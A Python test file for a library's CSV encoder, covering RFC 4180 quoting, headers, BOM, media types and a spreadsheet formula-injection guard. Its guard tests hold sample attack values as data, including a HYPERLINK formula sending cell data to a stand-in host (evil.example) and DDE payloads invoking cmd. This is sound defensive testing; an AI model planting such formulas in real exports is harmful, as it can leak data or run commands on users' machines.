"""CSV: cells and rows to RFC 4180 bytes (read back with the stdlib ``csv``
reader), the encoder's header, BOM and media type, and the formula-injection
guard, with property tests over arbitrary tables.

NUL: since Python 3.11 (the oldest Python streamkit supports) the ``csv``
module writes a NUL as it is and its reader accepts it, so tables with NUL
round-trip and the strategies below include it.
"""

from __future__ import annotations

import csv
import dataclasses
import datetime as dt
import enum
import io
import sqlite3
from collections.abc import Iterator, Mapping
from decimal import Decimal
from typing import Any
from uuid import UUID

import pytest
from hypothesis import given
from hypothesis import strategies as st

from streamkit import CSVEncoder, EncodeError
from streamkit._formats.csvenc import guard_formula

from .strategies import texts

BOM = b"\xef\xbb\xbf"

#: The first characters OWASP (and ASVS 1.2.10, for NUL) say make a cell a formula.
TRIGGERS = "=+-@\t\r\n\0"


def parse(wire: bytes) -> list[list[str]]:
    """What a CSV reader makes of the bytes (RFC 4180, the excel dialect)."""
    return list(csv.reader(io.StringIO(wire.decode("utf-8"), newline="")))


def harmless_number(cell: str) -> bool:
    """Text made only of digits, signs, separators and exponent marks: a
    spreadsheet cannot call a function or reference anything with it."""
    return any(c.isdecimal() for c in cell) and all(c.isdecimal() or c in "+-.,eE" for c in cell)


class Colour(enum.Enum):
    RED = "red"
    FORMULA = "=1+1"


class Level(enum.IntEnum):
    HIGH = 3


class Sign(enum.StrEnum):
    PLUS = "+cmd"


class Shouty:
    """An object whose text form is a formula."""

    def __str__(self) -> str:
        return "=evil()"


@dataclasses.dataclass(frozen=True)
class User:
    id: int
    name: str
    email: str | None


# -- cells: (row, wire bytes) both ways ---------------------------------------

CET = dt.timezone(dt.timedelta(hours=1))

# (name, row, wire, what a CSV reader gets back)
CELLS: list[tuple[str, list[object], bytes, list[str]]] = [
    ("plain text", ["a", "b c"], b"a,b c\r\n", ["a", "b c"]),
    ("comma is quoted", ["a,b", "c"], b'"a,b",c\r\n', ["a,b", "c"]),
    ("quote is doubled", ['say "hi"'], b'"say ""hi"""\r\n', ['say "hi"']),
    ("LF is quoted", ["x\ny"], b'"x\ny"\r\n', ["x\ny"]),
    ("CRLF is quoted", ["x\r\ny"], b'"x\r\ny"\r\n', ["x\r\ny"]),
    ("lone CR is quoted", ["x\ry"], b'"x\ry"\r\n', ["x\ry"]),
    ("spaces are kept", [" a ", ""], b" a ,\r\n", [" a ", ""]),
    ("None is an empty cell", ["a", None, "b"], b"a,,b\r\n", ["a", "", "b"]),
    ("a lone empty cell is quoted", [""], b'""\r\n', [""]),
    ("a lone None is quoted", [None], b'""\r\n', [""]),
    ("non-ASCII is UTF-8", ["é🌊", "\u2028"], "é🌊,\u2028\r\n".encode(), ["é🌊", "\u2028"]),
    ("NUL passes through", ["a\0b"], b"a\0b\r\n", ["a\0b"]),
    ("booleans as Python prints them", [True, False], b"True,False\r\n", ["True", "False"]),
    ("ints", [0, -5, 10**20], b"0,-5,100000000000000000000\r\n", ["0", "-5", str(10**20)]),
    ("floats as repr", [2.5, -0.1, 1e-07], b"2.5,-0.1,1e-07\r\n", ["2.5", "-0.1", "1e-07"]),
    ("Decimal as str", [Decimal("1.10"), Decimal("-5")], b"1.10,-5\r\n", ["1.10", "-5"]),
    ("date", [dt.date(2026, 1, 2)], b"2026-01-02\r\n", ["2026-01-02"]),
    (
        "datetimes in ISO 8601",
        [dt.datetime(2026, 1, 2, 3, 4, 5), dt.datetime(2026, 1, 2, 3, 4, 5, 6, tzinfo=CET)],
        b"2026-01-02T03:04:05,2026-01-02T03:04:05.000006+01:00\r\n",
        ["2026-01-02T03:04:05", "2026-01-02T03:04:05.000006+01:00"],
    ),
    (
        "time",
        [dt.time(13, 4), dt.time(1, 2, 3, 4)],
        b"13:04:00,01:02:03.000004\r\n",
        ["13:04:00", "01:02:03.000004"],
    ),
    (
        "UUID",
        [UUID(int=255)],
        b"00000000-0000-0000-0000-0000000000ff\r\n",
        ["00000000-0000-0000-0000-0000000000ff"],
    ),
    ("enums by value", [Colour.RED, Level.HIGH], b"red,3\r\n", ["red", "3"]),
    ("list as JSON", [[1, "a", None]], b'"[1,""a"",null]"\r\n', ['[1,"a",null]']),
    ("dict as JSON", [{"k": 1, 2: "v"}], b'"{""k"":1,""2"":""v""}"\r\n', ['{"k":1,"2":"v"}']),
    (
        "nested Decimal and set as JSON",
        [[Decimal("0.5"), {7}]],
        b'"[""0.5"",[7]]"\r\n',
        ['["0.5",[7]]'],
    ),
]


@pytest.mark.parametrize(
    ("row", "wire", "cells"), [c[1:] for c in CELLS], ids=[c[0] for c in CELLS]
)
def test_cells_encode_to_the_wire_bytes_and_read_back(
    row: list[object], wire: bytes, cells: list[str]
) -> None:
    assert CSVEncoder(header=False).encode(row) == wire
    assert CSVEncoder(header=False).encode(tuple(row)) == wire
    assert parse(wire) == [cells]


# -- rows ----------------------------------------------------------------------


def test_dict_rows_take_the_header_from_the_first_row_in_first_seen_order() -> None:
    encoder = CSVEncoder()
    assert encoder.fieldnames is None
    out = encoder.encode_many([{"b": 1, "a": 2, "c": 3}, {"c": 6, "a": 5, "b": 4}])
    assert out == b"b,a,c\r\n1,2,3\r\n4,5,6\r\n"
    assert encoder.fieldnames == ["b", "a", "c"]


def test_explicit_fieldnames_choose_the_columns_and_their_order() -> None:
    encoder = CSVEncoder(["a", "b"])
    assert encoder.fieldnames == ["a", "b"]
    assert encoder.encode({"b": 1, "a": 2}) == b"a,b\r\n2,1\r\n"
    assert encoder.encode({"a": 3, "b": 4}) == b"3,4\r\n"


def test_fieldnames_property_is_a_copy() -> None:
    encoder = CSVEncoder(["a"])
    names = encoder.fieldnames
    assert names is not None
    names.append("b")
    assert encoder.fieldnames == ["a"]


def test_missing_keys_are_empty_cells() -> None:
    encoder = CSVEncoder(["a", "b", "c"])
    assert encoder.encode_many([{"b": 1}, {}, {"a": None, "c": 2}]) == (
        b"a,b,c\r\n,1,\r\n,,\r\n,,2\r\n"
    )


def test_unknown_keys_in_a_later_row_are_an_error_naming_them() -> None:
    encoder = CSVEncoder()
    encoder.encode({"a": 1})
    with pytest.raises(EncodeError, match=r"row 1 .*'b', 'c'"):
        encoder.encode({"a": 2, "b": 3, "c": 4})


def test_unknown_keys_are_dropped_with_extra_ignore() -> None:
    encoder = CSVEncoder(extra="ignore")
    assert encoder.encode_many([{"a": 1}, {"a": 2, "b": 3}, {"b": 4}]) == b'a\r\n1\r\n2\r\n""\r\n'


def test_extra_must_be_raise_or_ignore() -> None:
    with pytest.raises(ValueError, match="extra must be"):
        CSVEncoder(extra="keep")  # type: ignore[arg-type]


def test_fieldnames_must_not_be_one_string() -> None:
    with pytest.raises(TypeError, match="not one string"):
        CSVEncoder("abc")


def test_tuple_list_and_iterable_rows_are_written_as_they_are() -> None:
    encoder = CSVEncoder(["x", "y"])
    rows: list[object] = [(1, "a"), [2, "b"], iter([3, "c"]), (v for v in (4, "d"))]
    assert encoder.encode_many(rows) == b"x,y\r\n1,a\r\n2,b\r\n3,c\r\n4,d\r\n"


def test_sequence_rows_without_fieldnames_have_no_header() -> None:
    assert CSVEncoder().encode_many([("a", 1), ("b", 2)]) == b"a,1\r\nb,2\r\n"


def test_dataclass_rows() -> None:
    rows = [User(1, "Ann", "ann@example.com"), User(2, "=Bob", None)]
    assert CSVEncoder().encode_many(rows) == (
        b"id,name,email\r\n1,Ann,ann@example.com\r\n2,'=Bob,\r\n"
    )


def test_pydantic_model_rows() -> None:
    pydantic = pytest.importorskip("pydantic")
    item_model = pydantic.create_model(
        "Item", id=(int, ...), price=(Decimal, ...), on=(dt.date, ...), tags=(list[str], ...)
    )
    rows = [item_model(id=1, price=Decimal("2.50"), on=dt.date(2026, 1, 2), tags=["a", "b"])]
    assert CSVEncoder().encode_many(rows) == (
        b'id,price,on,tags\r\n1,2.50,2026-01-02,"[""a"",""b""]"\r\n'
    )


@pytest.fixture
def db() -> Iterator[sqlite3.Connection]:
    connection = sqlite3.connect(":memory:")
    connection.row_factory = sqlite3.Row
    connection.execute("CREATE TABLE users (id INTEGER, name TEXT, score REAL)")
    connection.executemany(
        "INSERT INTO users VALUES (?, ?, ?)",
        [(1, "Ann", 2.5), (2, None, -3.0), (3, "@SUM(1+1)", None)],
    )
    yield connection
    connection.close()


def test_sqlite3_rows_are_read_by_column_name(db: sqlite3.Connection) -> None:
    rows = db.execute("SELECT score, name, id FROM users ORDER BY id").fetchall()
    assert isinstance(rows[0], sqlite3.Row)
    assert CSVEncoder().encode_many(rows) == (
        b"score,name,id\r\n2.5,Ann,1\r\n-3.0,,2\r\n,'@SUM(1+1),3\r\n"
    )
    rows = db.execute("SELECT * FROM users ORDER BY id").fetchall()
    assert CSVEncoder(["name", "id"], extra="ignore").encode_many(rows) == (
        b"name,id\r\nAnn,1\r\n,2\r\n'@SUM(1+1),3\r\n"
    )


class MappingRow:
    """Like a SQLAlchemy ``Row``: iterates as a sequence, ``_mapping`` by name."""

    def __init__(self, **values: object) -> None:
        self._values = values

    @property
    def _mapping(self) -> Mapping[str, object]:
        return self._values

    def __iter__(self) -> Iterator[object]:
        return iter(self._values.values())


class KeysRow:
    """A row that only offers ``keys()`` and ``row[key]``."""

    def __init__(self, **values: object) -> None:
        self._values = values

    def keys(self) -> list[str]:
        return list(self._values)

    def __getitem__(self, key: str) -> object:
        return self._values[key]


@pytest.mark.parametrize("row_type", [MappingRow, KeysRow])
def test_mapping_like_rows_are_read_by_name(row_type: Any) -> None:
    rows = [row_type(a=1, b="-x"), row_type(b=2, a=None)]
    assert CSVEncoder().encode_many(rows) == b"a,b\r\n1,'-x\r\n,2\r\n"


@pytest.mark.parametrize(
    ("row", "kind"), [("abc", "str"), (b"abc", "bytes"), (bytearray(b"a"), "bytearray")]
)
def test_a_text_row_is_an_error(row: object, kind: str) -> None:
    with pytest.raises(EncodeError, match=f"row 0 is a {kind}"):
        CSVEncoder().encode(row)


def test_a_row_that_is_not_a_row_is_an_error() -> None:
    with pytest.raises(EncodeError, match="row 0 is a int"):
        CSVEncoder().encode(5)


@pytest.mark.parametrize("value", [b"x", bytearray(b"x"), memoryview(b"x")])
def test_bytes_cells_are_an_error_naming_row_and_column(value: object) -> None:
    encoder = CSVEncoder()
    encoder.encode({"a": 1, "b": "ok"})
    with pytest.raises(EncodeError, match=rf"row 1, column 2: .*{type(value).__name__}"):
        encoder.encode({"a": 2, "b": value})
    with pytest.raises(EncodeError, match=r"row 0, column 3"):
        CSVEncoder(header=False).encode((1, 2, value))


@pytest.mark.parametrize("value", [[b"x"], {"k": object()}], ids=["bytes in list", "object"])
def test_unencodable_values_inside_a_json_cell_are_an_encode_error(value: object) -> None:
    with pytest.raises(EncodeError, match=r"row 0, column 2"):
        CSVEncoder(header=False).encode((1, value))


def test_a_dict_row_after_sequence_rows_without_fieldnames_is_an_encode_error() -> None:
    encoder = CSVEncoder()
    encoder.encode(("a", 1))
    with pytest.raises(EncodeError):
        encoder.encode({"x": 1})


def test_dict_rows_with_int_keys_do_not_lose_their_values() -> None:
    encoder = CSVEncoder(extra="ignore")
    try:
        out = encoder.encode({1: "a", 2: "b"})
    except EncodeError:
        return  # refusing is acceptable; writing empty cells is not
    assert out == b"1,2\r\na,b\r\n"


# -- the encoder: header, labels, BOM, line endings, media type ----------------


def test_labels_replace_the_header_text() -> None:
    encoder = CSVEncoder(["email", "n"], labels={"email": "E-mail", "unused": "x"})
    assert encoder.encode({"email": "a@b", "n": 1}) == b"E-mail,n\r\na@b,1\r\n"


def test_header_false_writes_no_header() -> None:
    encoder = CSVEncoder(["a"], header=False, labels={"a": "A"})
    assert encoder.encode({"a": 1}) == b"1\r\n"
    assert encoder.finish() == b""


@pytest.mark.parametrize(
    ("header", "media_type"),
    [
        (True, "text/csv; charset=utf-8; header=present"),
        (False, "text/csv; charset=utf-8; header=absent"),
    ],
)
def test_media_type(header: bool, media_type: str) -> None:
    assert CSVEncoder(header=header).media_type == media_type


def test_lines_end_with_crlf_by_default_and_follow_the_dialect() -> None:
    rows = [{"a": 1, "b": "x\ny"}]
    assert CSVEncoder().encode_many(rows) == b'a,b\r\n1,"x\ny"\r\n'
    assert CSVEncoder(dialect="unix").encode_many(rows) == b'"a","b"\n"1","x\ny"\n'
    assert CSVEncoder(dialect="excel-tab").encode_many(rows) == b'a\tb\r\n1\t"x\ny"\r\n'


def test_bom_is_written_once_at_the_start() -> None:
    encoder = CSVEncoder(bom=True)
    chunks = [encoder.encode({"a": "é"}), encoder.encode({"a": 2}), encoder.encode_many([{"a": 3}])]
    assert chunks == [BOM + "a\r\né\r\n".encode(), b"2\r\n", b"3\r\n"]
    assert encoder.finish() == b""
    assert parse(b"".join(chunks))[0] == ["\ufeffa"]  # what a BOM-unaware reader sees


def test_bom_comes_before_the_header_of_an_empty_export() -> None:
    encoder = CSVEncoder(["a", "b"], bom=True)
    assert encoder.finish() == BOM + b"a,b\r\n"
    assert encoder.finish() == b""


def test_excel_preset_writes_a_bom_and_crlf() -> None:
    encoder = CSVEncoder.excel(["name"])
    assert encoder.media_type == "text/csv; charset=utf-8; header=present"
    assert encoder.encode({"name": "Zoë"}) == BOM + "name\r\nZoë\r\n".encode()
    assert encoder.encode({"name": "=1"}) == b"'=1\r\n"
    assert CSVEncoder.excel(bom=False).encode({"a": 1}) == b"a\r\n1\r\n"


def test_finish_writes_the_header_of_an_empty_export() -> None:
    encoder = CSVEncoder(["a", "=b"])
    assert encoder.finish() == b"a,'=b\r\n"
    assert encoder.finish() == b""


def test_finish_after_rows_and_without_columns_writes_nothing() -> None:
    encoder = CSVEncoder()
    assert encoder.finish() == b""
    encoder = CSVEncoder(["a"])
    encoder.encode({"a": 1})
    assert encoder.finish() == b""


def test_an_empty_batch_first_does_not_repeat_the_bom() -> None:
    encoder = CSVEncoder(["a"], bom=True)
    out = encoder.encode_many([]) + encoder.encode({"a": 1}) + encoder.finish()
    assert out == BOM + b"a\r\n1\r\n"


def test_a_failed_first_row_does_not_lose_the_header() -> None:
    encoder = CSVEncoder(bom=True)
    with pytest.raises(EncodeError):
        encoder.encode({"a": b"bytes"})
    assert encoder.encode({"a": 1}) == BOM + b"a\r\n1\r\n"


def test_encode_many_is_encode_row_by_row() -> None:
    rows = [{"a": 1, "b": "=x"}, {"a": None, "b": 2}]
    one = CSVEncoder(bom=True)
    many = CSVEncoder(bom=True)
    assert b"".join(one.encode(row) for row in rows) == many.encode_many(rows)


# -- the formula-injection guard -------------------------------------------------

# (name, text, what a spreadsheet reading the CSV gets)
GUARDED: list[tuple[str, str, str]] = [
    ("equals", "=1+1", "'=1+1"),
    (
        "HYPERLINK exfiltration",
        '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
        '\'=HYPERLINK("http://evil.example/?d="&A1,"Click")',
    ),
    ("at-sign function", "@SUM(1+1)", "'@SUM(1+1)"),
    ("DDE with plus", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("DDE with equals", "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("minus arithmetic", "-2+3", "'-2+3"),
    ("minus and a function", "-1+SUM(A1)", "'-1+SUM(A1)"),
    ("tab", "\t=1", "'\t=1"),
    ("CR", "\r=1", "'\r=1"),
    ("LF", "\n=1", "'\n=1"),
    ("NUL", "\0=1", "'\0=1"),
    ("OWASP: quote and separator inside", '=1+2";=1+2', "'=1+2\";=1+2"),
    ("quoting does not neutralise", "=SUM(1,2)", "'=SUM(1,2)"),
    ("a number, then a formula on the next line", "-1\n=1+1", "'-1\n=1+1"),
    ("a number with trailing space", "-5 ", "'-5 "),
    ("lone minus", "-", "'-"),
    ("lone plus", "+", "'+"),
    ("lone at", "@", "'@"),
    ("double minus", "--1", "'--1"),
    ("incomplete exponent", "-1e", "'-1e"),
    ("phone number with spaces", "+44 20 7946 0958", "'+44 20 7946 0958"),
]

# Text a spreadsheet reads as a number, or that cannot start a formula.
NOT_GUARDED = [
    "-5",
    "+3.2",
    "1e5",
    "-.5",
    "-1.5e-3",
    "+1E+10",
    "-1,234.5",
    "+447700900123",
    "0",
    "",
    "a=1",
    "5-3",
    " =1",
    "'=already quoted",
    "é=1",
]


@pytest.mark.parametrize(("text", "cell"), [c[1:] for c in GUARDED], ids=[c[0] for c in GUARDED])
def test_formula_text_gets_a_leading_quote(text: str, cell: str) -> None:
    assert parse(CSVEncoder(header=False).encode(["x", text])) == [["x", cell]]
    assert parse(CSVEncoder(header=False).encode([text])) == [[cell]]
    assert guard_formula(text) == cell


@pytest.mark.parametrize(("text", "cell"), [c[1:] for c in GUARDED], ids=[c[0] for c in GUARDED])
def test_formula_guard_false_leaves_formula_text_alone(text: str, cell: str) -> None:
    assert parse(CSVEncoder(header=False, formula_guard=False).encode(["x", text])) == [["x", text]]


@pytest.mark.parametrize("text", NOT_GUARDED)
def test_numbers_and_harmless_text_are_not_guarded(text: str) -> None:
    assert parse(CSVEncoder(header=False).encode([text, "y"])) == [[text, "y"]]
    assert guard_formula(text) == text


def test_owasp_example_is_written_as_owasp_recommends() -> None:
    assert CSVEncoder(header=False).encode(['=1+2";=1+2']) == b'"\'=1+2"";=1+2"\r\n'


@pytest.mark.parametrize(
    ("value", "cell"),
    [(-5, "-5"), (-2.5, "-2.5"), (Decimal("-1.5"), "-1.5"), (Decimal("-1E+3"), "-1E+3")],
)
def test_number_values_are_never_guarded(value: object, cell: str) -> None:
    assert parse(CSVEncoder(header=False).encode([value])) == [[cell]]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        (Colour.FORMULA, "'=1+1"),
        (Sign.PLUS, "'+cmd"),
        (Shouty(), "'=evil()"),
        (type("Text", (str,), {})("@x"), "'@x"),
    ],
    ids=["enum value", "StrEnum", "__str__", "str subclass"],
)
def test_non_str_values_whose_text_is_a_formula_are_guarded(value: object, cell: str) -> None:
    assert parse(CSVEncoder(header=False).encode([value])) == [[cell]]


@pytest.mark.parametrize(
    "text",
    ["x,=1+1", "x\r\n=1+1", "x\n@SUM(1)", 'x",=1+1', 'x"\r\n=1', "x;=1+1", '"=1+1"'],
)
def test_separators_in_a_value_cannot_start_a_new_formula_cell(text: str) -> None:
    # OWASP: the check must hold for each cell *after parsing*. The value stays
    # one cell, in one row, so nothing after a separator begins a cell.
    rows = parse(CSVEncoder(header=False).encode(["a", text, "b"]))
    assert rows == [["a", text, "b"]]


def test_the_header_row_is_guarded_too() -> None:
    assert CSVEncoder(["=cmd()", "ok"]).finish() == b"'=cmd(),ok\r\n"
    assert CSVEncoder(["a"], labels={"a": "@label"}).finish() == b"'@label\r\n"
    encoder = CSVEncoder()
    assert encoder.encode({"+k": 1, "-5": 2}) == b"'+k,-5\r\n1,2\r\n"
    assert encoder.fieldnames == ["+k", "-5"]  # looked up by the real key
    assert CSVEncoder(["=a"], formula_guard=False).finish() == b"=a\r\n"


@pytest.mark.parametrize(
    "text",
    ["-\u0661\u0662", "+\u0663.\u0665", "-\U0001d7cf"],
    ids=["Arabic-Indic", "Arabic-Indic decimal", "mathematical bold"],
)
def test_only_ascii_digits_make_a_number(text: str) -> None:
    assert guard_formula(text) == "'" + text


# -- property tests ------------------------------------------------------------

#: Text biased towards what matters to CSV quoting and to the guard.
tricky_cells = st.lists(
    st.sampled_from(
        [",", '"', "\r", "\n", "\r\n", "'", ";", " ", "\ufeff", "\u2028", "é", *TRIGGERS]
    )
    | st.characters(codec="utf-8"),
    max_size=12,
).map("".join)

#: Numbers as people write them: sign, digits (maybe grouped by commas), decimals, exponent.
numeric_text = (
    st.integers().map(str)
    | st.floats(allow_nan=False, allow_infinity=False).map(repr)
    | st.from_regex(
        r"[+-]?([0-9]+(,[0-9]{3})*(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?", fullmatch=True
    )
)

cells = (
    texts
    | tricky_cells
    | st.builds(lambda t, rest: t + rest, st.sampled_from(TRIGGERS), texts | tricky_cells)
    | numeric_text
)


def tables(cell: st.SearchStrategy[str]) -> st.SearchStrategy[list[list[str]]]:
    """Rows of ``cell``, all with the same number of columns."""
    return st.integers(min_value=1, max_value=5).flatmap(
        lambda n: st.lists(st.lists(cell, min_size=n, max_size=n), max_size=8)
    )


@given(tables(cells))
def test_any_string_table_round_trips_through_a_csv_reader(table: list[list[str]]) -> None:
    wire = CSVEncoder(formula_guard=False, header=False).encode_many(table)
    assert parse(wire) == table


@given(tables(cells))
def test_with_the_guard_no_cell_can_start_a_formula(table: list[list[str]]) -> None:
    parsed = parse(CSVEncoder(header=False).encode_many(table))
    assert len(parsed) == len(table)
    for row, got_row in zip(table, parsed, strict=True):
        for text, got in zip(row, got_row, strict=True):
            # What a spreadsheet sees never starts with a trigger, unless it is a number.
            assert got[:1] not in TRIGGERS or harmless_number(got) or not got
            if got == text:
                continue
            # Otherwise the one change is a leading quote on text that needed it,
            # and stripping it gives the original back.
            assert got == "'" + text
            assert text[0] in TRIGGERS
            assert got[1:] == text


@given(st.lists(cells, min_size=1, max_size=6))
def test_with_the_guard_no_header_cell_can_start_a_formula(names: list[str]) -> None:
    (header,) = parse(CSVEncoder(names).finish())
    assert header == [guard_formula(name) for name in names]
    for cell in header:
        assert cell[:1] not in TRIGGERS or harmless_number(cell) or not cell


@given(numeric_text)
def test_numeric_text_is_never_changed(text: str) -> None:
    assert parse(CSVEncoder(header=False).encode([text, ""])) == [[text, ""]]


@given(st.integers() | st.floats(allow_nan=False, allow_infinity=False))
def test_number_values_are_written_as_python_prints_them(value: float) -> None:
    assert parse(CSVEncoder(header=False).encode([value, ""])) == [[str(value), ""]]


@given(
    st.lists(
        st.fixed_dictionaries({"a": cells, "b": st.none() | cells | st.integers()}), min_size=1
    ),
    st.booleans(),
    st.booleans(),
    st.booleans(),
)
def test_encode_many_equals_encoding_row_by_row(
    rows: list[dict[str, object]], bom: bool, header: bool, guard: bool
) -> None:
    options: dict[str, Any] = {"bom": bom, "header": header, "formula_guard": guard}
    one = CSVEncoder(**options)
    many = CSVEncoder(**options)
    by_row = b"".join(one.encode(row) for row in rows) + one.finish()
    assert by_row == many.encode_many(rows) + many.finish()
    parsed = parse(by_row.removeprefix(BOM))
    assert len(parsed) == len(rows) + header
